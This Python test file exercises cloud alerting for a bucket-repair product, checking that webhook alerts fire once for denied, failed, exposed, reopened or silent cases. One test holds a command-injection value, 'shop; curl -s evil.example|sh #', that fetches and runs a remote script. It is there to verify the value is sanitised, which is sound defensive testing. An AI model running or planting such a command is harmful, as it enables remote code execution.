"""Be woken: with the product at work, each alert fires once on its cause, and on no other."""

import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from alibabacloud_fc_open20210406 import models

from scripts import ROOT
from scripts.account.inventory import Recipients
from scripts.localcloud import Fail, LocalCloud
from scripts.localcloud.log import query
from scripts.stage.stage import Stage, set_up
from scripts.verbs.provision import provision
from tests.contract.alert_rig import TOKEN, Webhook, check_until, webhook
from tests.e2e.scene import PUBLIC_POLICY

DAY = 86400


@contextmanager
def woken(code: Path) -> Iterator[tuple[Stage, Webhook]]:
    """The product on a cloud of its own, whose alerts go to a webhook."""
    with webhook() as hook, LocalCloud() as cloud:
        stage = set_up(cloud, code)
        provision(stage.spec, stage.clients, Recipients(hook.address))
        yield stage, hook


@pytest.fixture(scope="module")
def shared(code: Path) -> Iterator[tuple[Stage, Webhook]]:
    """One for all tests that let no time pass."""
    with woken(code) as both:
        yield both


@pytest.fixture
def stage(shared: tuple[Stage, Webhook]) -> Stage:
    """The product, with no bucket and nothing going on."""
    stage, _ = shared
    stage.start_over()
    return stage


@pytest.fixture
def hook(shared: tuple[Stage, Webhook], stage: Stage) -> Webhook:
    """The webhook, with the calls of this test alone."""
    _, hook = shared
    stage.cloud.log.alerts.check()
    hook.calls.clear()
    return hook


def send(stage: Stage, event: bytes) -> str:
    """Invoke the function asynchronously; gives the request id, when all runs are over."""
    names = (stage.spec.service.name, stage.spec.function.name)
    request_id = stage.cloud.fc.invoke_async(*names, event)
    assert stage.wait_idle()
    return request_id


def queued(stage: Stage) -> int:
    """How many messages are in the failure queue."""
    return len(stage.cloud.mns.messages(str(stage.spec.failure_queue)))


def test_a_denied_repair_wakes_somebody_once(stage: Stage, hook: Webhook) -> None:
    """Four runs that were denied are one call about the bucket, and one about the queue."""
    stage.cloud.faults.add("oss:PutBucketAcl", Fail(403, "AccessDenied"), times=4)
    before = queued(stage)
    stage.cloud.oss.create("denied-bucket", acl="public-read")
    assert stage.wait_idle()

    check_until(stage.cloud, hook, "kept")

    assert queued(stage) == before + 1
    assert [line.outcome for line in stage.audit()].count("denied") >= 4
    assert sorted(hook.names()) == ["kept", "unsettled"]
    (call,) = hook.of("unsettled")
    assert call["labels"] == {"bucket": "denied-bucket", "outcome": "denied"}
    assert "Bucket denied-bucket: denied." in call["annotations"]["desc"]
    assert hook.of("kept")[0]["fire_results"][0]["runs"] == "4"


def test_a_bucket_that_a_policy_exposes(stage: Stage, hook: Webhook) -> None:
    """A bucket that is private and public by policy is told of as exposed."""
    stage.cloud.oss.create("config-policy", acl="public-read")
    stage.cloud.oss.set_policy("config-policy", PUBLIC_POLICY)
    assert stage.wait_idle()

    check_until(stage.cloud, hook, "told")

    assert hook.names() == ["told"]
    assert hook.of("told")[0]["labels"] == {"bucket": "config-policy", "outcome": "exposed"}


def test_a_failed_repair(stage: Stage, hook: Webhook) -> None:
    """What could not be proved is told of as failed."""
    stage.cloud.faults.add("oss:PutBucketAcl", Fail(400, "InvalidArgument"), times=4)
    stage.cloud.oss.create("failing-bucket", acl="public-read")
    assert stage.wait_idle()

    check_until(stage.cloud, hook, "kept")

    assert sorted(hook.names()) == ["kept", "unsettled"]
    assert hook.of("unsettled")[0]["labels"] == {"bucket": "failing-bucket", "outcome": "failed"}


def test_nothing_that_is_no_bucket_name_stands_in_a_command(stage: Stage, hook: Webhook) -> None:
    """A resource's id that a shell would run is told of, and comes to nobody's clipboard."""
    hostile = "shop; curl -s evil.example|sh #"
    event = json.loads((ROOT / "events" / "failed_invalid_bucket_name.json").read_bytes())
    names = event["evaluationResultIdentifier"]["evaluationResultQualifier"]
    names.update(resourceId=hostile, configRuleId=stage.rule_id)
    names["resourceOwnerId"] = event["accountId"] = stage.spec.account_id
    send(stage, json.dumps(event).encode())

    check_until(stage.cloud, hook, "kept")

    assert stage.audit()[-1].bucket == hostile
    assert sorted(hook.names()) == ["kept", "unsettled"]
    assert "evil" not in json.dumps(hook.calls)
    assert hook.of("unsettled")[0]["labels"] == {"bucket": "NO-BUCKET-NAME", "outcome": "failed"}


def test_a_message_kept_without_an_audit_line(stage: Stage, hook: Webhook) -> None:
    """Runs that end before they can write anything are seen all the same, in the platform's log."""
    names = (stage.spec.service.name, stage.spec.function.name)
    handlers = ("index.no_such_handler", stage.spec.function.handler)
    audited, before = len(stage.audit()), queued(stage)
    stage.clients.fc.update_function(*names, models.UpdateFunctionRequest(handler=handlers[0]))
    try:
        request_id = send(stage, b"{}")
    finally:
        stage.clients.fc.update_function(*names, models.UpdateFunctionRequest(handler=handlers[1]))

    check_until(stage.cloud, hook, "kept")

    assert (len(stage.audit()), queued(stage)) == (audited, before + 1)
    assert hook.names() == ["kept"]
    assert hook.calls[0]["labels"] == {"requestId": request_id}


def test_of_a_message_that_is_too_long_to_be_kept_nobody_says_that_it_is(
    stage: Stage, hook: Webhook
) -> None:
    """Function Compute drops what is above 64 KB with its own words: the alert says both ways."""
    before = queued(stage)
    finding = json.loads((ROOT / "events" / "repaired_nested.json").read_text("utf-8"))
    text = json.dumps({**finding, "annotation": "x" * 64_500})
    request_id = send(stage, text.replace("cr-a6129bc09da7009675a0", stage.rule_id)[:-9].encode())

    check_until(stage.cloud, hook, "kept")

    assert queued(stage) == before
    (call,) = hook.of("kept")
    assert call["labels"] == {"requestId": request_id}
    told = call["annotations"]["title"] + call["annotations"]["desc"]
    assert "is in the failure queue" not in told
    assert f"its message is in {stage.spec.failure_queue}" not in told
    assert "if that was too long (64 KB" in told
    assert "resource-repair sweep --due" in told


def test_a_failed_run_that_is_made_up_for_wakes_nobody(stage: Stage, hook: Webhook) -> None:
    """Runs fewer than all failed, so that nothing is kept: nothing is said of the queue."""
    stage.cloud.faults.add("oss:PutBucketAcl", Fail(403, "AccessDenied"), times=1)
    stage.cloud.oss.create("passing-bucket", acl="public-read")
    assert stage.wait_idle()

    check_until(stage.cloud, hook, "unsettled")

    assert stage.cloud.oss.bucket("passing-bucket").acl == "private"
    assert hook.names() == ["unsettled"]  # it was denied, if only once: the audit trail has it


def test_an_answer_of_fail(stage: Stage, hook: Webhook) -> None:
    """A message that nobody can read, and nobody retries, is told of by its request."""
    request_id = send(stage, b"no message at all")

    check_until(stage.cloud, hook, "unreadable")

    assert stage.audit()[-1].outcome == "unreadable"
    assert hook.names() == ["unreadable"]
    assert hook.calls[0]["labels"] == {"request_id": request_id}


def test_a_bucket_that_is_reopened(stage: Stage, hook: Webhook) -> None:
    """Nothing is said of two repairs; of the third once, and of the fourth no more."""
    stage.cloud.oss.create("reopened-bucket", acl="public-read")
    assert stage.wait_idle()
    reopen(stage)
    found(stage, 'message.bucket: "reopened-bucket"', 2)
    check_until(stage.cloud, hook, "reopened", times=0)
    assert hook.names() == []

    reopen(stage)
    check_until(stage.cloud, hook, "reopened")
    reopen(stage)
    found(stage, 'message.bucket: "reopened-bucket"', 4)
    check_until(stage.cloud, hook, "reopened")

    assert hook.names() == ["reopened"]
    assert hook.calls[0]["labels"] == {"bucket": "reopened-bucket"}
    assert hook.calls[0]["fire_results"][0]["repairs"] == "3"


def test_what_goes_well_wakes_nobody(stage: Stage, hook: Webhook) -> None:
    """Repairs, exemptions and other rules' findings are no reason to wake anybody."""
    stage.cloud.oss.create("fine-bucket", acl="public-read")
    stage.cloud.oss.create("config-website", acl="public-read")
    send(stage, (ROOT / "events" / "ignored_other_rule.json").read_bytes())
    for outcome, bucket in (("repaired", "fine-bucket"), ("exempt", "config-website")):
        found(stage, f'message.outcome: {outcome} and message.bucket: "{bucket}"', 1)
    found(stage, "message.outcome: ignored", 1)

    check_until(stage.cloud, hook, "unsettled", times=0)

    assert hook.calls == []


def reopen(stage: Stage) -> None:
    """Open the bucket again, and wait until it is closed."""
    stage.bucket("reopened-bucket").put_bucket_acl("public-read")
    assert stage.wait_idle()


def found(stage: Stage, text: str, lines: int) -> None:
    """Wait until a search finds so many lines."""
    log = stage.cloud.log
    condition = query.parse(text, log.index(*place(stage)))
    end = time.monotonic() + 20
    while len(log.matching(*place(stage), condition, 0, 2**33)) < lines:
        assert time.monotonic() < end, text
        time.sleep(0.01)


def place(stage: Stage) -> tuple[str, str]:
    """Where the log goes."""
    logs = stage.spec.service.logs
    assert logs
    return logs.project, logs.logstore


def test_silence_for_a_week(code: Path) -> None:
    """Seven days without an audit line are told of, once; a line begins the count anew."""
    with woken(code) as (stage, hook):
        clock, alerts = stage.cloud.clock, stage.cloud.log.alerts

        def silent(days: int) -> None:
            for _ in range(days):
                clock.advance(DAY)
                alerts.check("resource-repair-silence")

        silent(6)
        assert hook.calls == []
        stage.cloud.oss.create("some-bucket", acl="public-read")
        assert stage.wait_idle()
        found(stage, "message.event: resource_repair", 1)
        alerts.check("resource-repair-silence")
        silent(6)
        assert hook.calls == []
        silent(1)
        assert hook.names() == ["silence"]
        silent(1)
        assert hook.names() == ["silence"]


def test_nothing_that_is_kept_has_the_token_but_the_webhook(stage: Stage, hook: Webhook) -> None:
    """The webhook's address, with what it holds, is in its own record and in no alert or policy."""
    assert TOKEN in hook.address
    records = stage.cloud.log.records
    (own,) = records.all("sls.alert.action_webhook")
    assert own.fields["url"] == hook.address
    (policy,) = records.all("sls.alert.action_policy")
    rules = stage.cloud.log.alerts.all(place(stage)[0])
    assert len(rules) == 7
    assert TOKEN not in policy.value
    assert not any(TOKEN in str(rule.settings) for rule in rules)
